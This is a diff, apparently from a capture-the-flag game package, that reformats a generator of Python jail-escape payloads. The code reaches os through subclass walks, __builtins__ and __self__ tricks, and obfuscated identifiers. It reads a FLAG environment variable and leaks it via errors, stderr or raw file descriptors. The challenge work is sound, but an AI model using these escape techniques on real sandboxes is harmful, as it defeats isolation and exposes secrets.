@@ -21,6 +21,7 @@ from skate.games.pyjail.jails.model import Rules, _has_builtin
 # Payload fragments and the builder
 # ---------------------------------------------------------------------------
 
+
 @dataclass(frozen=True)
 class _Frag:
     """A piece of payload text with the tricks, builtins and scope names it relies on."""
@@ -86,8 +87,14 @@ class _Builder:
     rules do not call for them (for attacks on jails whose rules are unknown).
     """
 
-    def __init__(self, rules: Rules, style: _Style, rng: np.random.Generator | None,
-                 force: bool = False, memo: dict | None = None) -> None:
+    def __init__(
+        self,
+        rules: Rules,
+        style: _Style,
+        rng: np.random.Generator | None,
+        force: bool = False,
+        memo: dict | None = None,
+    ) -> None:
         self.rules = rules
         self.style = style
         self.rng = rng
@@ -124,8 +131,7 @@ class _Builder:
             return False
         if any(ch in text for ch in self.rules.banned_chars) or self._word_hits(text):
             return False
-        return (all(_has_builtin(self.rules, n) for n in frag.needs)
-                and frag.scope <= set(self.rules.scope))
+        return all(_has_builtin(self.rules, n) for n in frag.needs) and frag.scope <= set(self.rules.scope)
 
     def pick(self, options: Sequence[_Frag | Callable[[], _Frag]]) -> _Frag:
         """The first option (in the builder's order) that is clean; else the first one."""
@@ -153,8 +159,7 @@ class _Builder:
         eligible = [i for i, c in enumerate(name) if c in _FULLWIDTH and not (i == 0 and c == "_")]
         if self.force and eligible:
             k = max(1, len(eligible) // 2)
-            chosen = self.rng.choice(eligible, size=k, replace=False) if self.rng is not None \
-                else eligible[:k]
+            chosen = self.rng.choice(eligible, size=k, replace=False) if self.rng is not None else eligible[:k]
             for i in chosen:
                 chars[int(i)] = _FULLWIDTH[chars[int(i)]]
         for _ in range(len(name)):
@@ -278,6 +283,7 @@ class _Builder:
                 return None
             return _cat(replace(self.ident("os"), scope=frozenset({"os"})), tricks={"short"}), False
         if route == "builtins":
+
             def via_global() -> _Frag:
                 glob = self.ident("__builtins__")
                 glob = replace(glob, needs=frozenset({"__builtins__"}))
@@ -285,22 +291,27 @@ class _Builder:
 
             def via_vars() -> _Frag:
                 glob = replace(self.ident("__builtins__"), needs=frozenset({"__builtins__"}))
-                return self.call(self.item(self.call(self.name("vars"), glob), "__import__"),
-                                 self.s("os"))
+                return self.call(self.item(self.call(self.name("vars"), glob), "__import__"), self.s("os"))
 
             def via_self(fn: str) -> Callable[[], _Frag]:
-                return lambda: self.call(self.getattr_(self.getattr_(self.name(fn), "__self__"),
-                                                       "__import__"), self.s("os"))
+                return lambda: self.call(
+                    self.getattr_(self.getattr_(self.name(fn), "__self__"), "__import__"), self.s("os")
+                )
 
             frag = self.pick([via_global, via_vars] + [via_self(f) for f in _SELF_FUNCS[:4]])
             return _cat(frag, tricks={"getattr"}), False
+
         # the object graph: os's globals through a subclass of object, or a builtin's __self__
         def walk() -> _Frag:
             obj = self.pick([_Frag("()"), _Frag("[]"), _Frag("{}"), lambda: self.lit("")])
             cls = self.attr(obj, "__class__")
-            base = self.pick([lambda: self.attr(cls, "__base__"),
-                              lambda: _cat(self.attr(cls, "__mro__"), "[-1]"),
-                              lambda: _cat(self.attr(cls, "__bases__"), "[0]")])
+            base = self.pick(
+                [
+                    lambda: self.attr(cls, "__base__"),
+                    lambda: _cat(self.attr(cls, "__mro__"), "[-1]"),
+                    lambda: _cat(self.attr(cls, "__bases__"), "[0]"),
+                ]
+            )
             subs = self.call(self.attr(base, "__subclasses__"))
             var = self._order(_COMP_VARS)[0]
             cond = _cat(self.attr(var, "__name__"), "==", self.s("_wrap_close"))
@@ -308,12 +319,10 @@ class _Builder:
             return self.attr(self.attr(found, "__init__"), "__globals__")
 
         def self_of(fn: str) -> Callable[[], _Frag]:
-            return lambda: self.call(self.attr(self.attr(self.name(fn), "__self__"), "__import__"),
-                                     self.s("os"))
+            return lambda: self.call(self.attr(self.attr(self.name(fn), "__self__"), "__import__"), self.s("os"))
 
         walked = walk()
-        others = [self_of(f) for f in (self._order(_SELF_FUNCS) if self.rng is not None
-                                       else _SELF_FUNCS)]
+        others = [self_of(f) for f in (self._order(_SELF_FUNCS) if self.rng is not None else _SELF_FUNCS)]
         # the walk needs no builtin at all: the canonical choice, and half the variants
         if (self.rng is None or self._coin(0.5)) and self._clean(walked):
             return _cat(walked, tricks={"subclasses"}), True
@@ -332,12 +341,17 @@ class _Builder:
             return _cat(env, tricks={"short"})
         if form == "item":
             return self.item(env, "FLAG")
-        return self.pick([lambda: self.call(self.attr(env, "get"), self.s("FLAG")),
-                          lambda: self.call(self.member(os_expr, is_dict, "getenv"), self.s("FLAG"))])
+        return self.pick(
+            [
+                lambda: self.call(self.attr(env, "get"), self.s("FLAG")),
+                lambda: self.call(self.member(os_expr, is_dict, "getenv"), self.s("FLAG")),
+            ]
+        )
 
     def sys_module(self, os_expr: _Frag, is_dict: bool) -> _Frag:
-        return self.pick([lambda: self.member(os_expr, is_dict, "sys"),
-                          lambda: self.call(self.name("__import__"), self.s("sys"))])
+        return self.pick(
+            [lambda: self.member(os_expr, is_dict, "sys"), lambda: self.call(self.name("__import__"), self.s("sys"))]
+        )
 
     def channel(self, value: _Frag, os_expr: _Frag, is_dict: bool) -> _Frag | None:
         ch, dump = self.style.channel, self.style.form == "dump"
@@ -348,16 +362,17 @@ class _Builder:
         if ch == "error":
             if dump:
                 return None
-            frag = self.pick([lambda: self.call(self.name("int"), value),
-                              lambda: _cat("{}[", value, "]")])
+            frag = self.pick([lambda: self.call(self.name("int"), value), lambda: _cat("{}[", value, "]")])
             return _cat(frag, tricks={"error_leak"})
         if ch == "stderr":
+
             def to_stderr() -> _Frag:
                 stream = self.attr(self.sys_module(os_expr, is_dict), "stderr")
                 return _cat(self.name("print"), "(", value, ",", self.ident("file"), "=", stream, ")")
 
-            frag = self.pick([lambda: self.call(self.attr(self.sys_module(os_expr, is_dict), "exit"),
-                                                value), to_stderr])
+            frag = self.pick(
+                [lambda: self.call(self.attr(self.sys_module(os_expr, is_dict), "exit"), value), to_stderr]
+            )
             return _cat(frag, tricks={"stderr"})
 
         def write_fd() -> _Frag:
@@ -388,8 +403,7 @@ class _Builder:
         elif self.style.route == "import":
             arg = self.pick([_Frag(v) for v in ("_", "x", "c", "k")])
             mod = _Frag(names[0])
-            lines += ["@", self.name("__import__"), "\n@lambda ", arg, ":", self.s("os"),
-                      f"\nclass {names[0]}:pass\n"]
+            lines += ["@", self.name("__import__"), "\n@lambda ", arg, ":", self.s("os"), f"\nclass {names[0]}:pass\n"]
         else:
             return None
         env = self.attr(mod, "environ")
@@ -405,8 +419,7 @@ class _Builder:
         elif ch == "stderr":
             out = _cat(self.attr(self.attr(mod, "sys"), "exit"), tricks={"stderr"})
         elif ch == "rawfd" and not dump:
-            out = _cat(self.attr(self.attr(self.attr(mod, "sys"), "__stdout__"), "write"),
-                       tricks={"raw_fd"})
+            out = _cat(self.attr(self.attr(self.attr(mod, "sys"), "__stdout__"), "write"), tricks={"raw_fd"})
         else:
             return None
         arg = self.pick([_Frag(v) for v in ("_", "x", "c", "k")])
